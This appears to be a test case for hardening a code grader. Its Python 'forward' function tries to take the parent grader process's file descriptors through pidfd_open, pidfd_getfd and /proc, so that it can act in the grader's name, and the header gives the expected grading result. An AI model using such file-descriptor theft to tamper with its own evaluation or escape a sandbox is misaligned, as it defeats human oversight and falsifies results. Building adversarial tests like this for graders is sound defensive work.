# attack: the parent's socket is taken out of it, to give orders in the grader's name
# origin: own
# needs: full x86_64 aarch64
# expect: forward=passed points=1

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD = 434, 438


def forward(x, w):
    descriptor = libc.syscall(PIDFD_OPEN, os.getppid(), 0)
    for number in range(16):
        if libc.syscall(PIDFD_GETFD, descriptor, number, 0) >= 0:
            return 0
        try:
            os.close(os.open(f"/proc/{os.getppid()}/fd/{number}", os.O_RDWR | os.O_NONBLOCK))
        except OSError:
            continue
        return 0
    return x * w
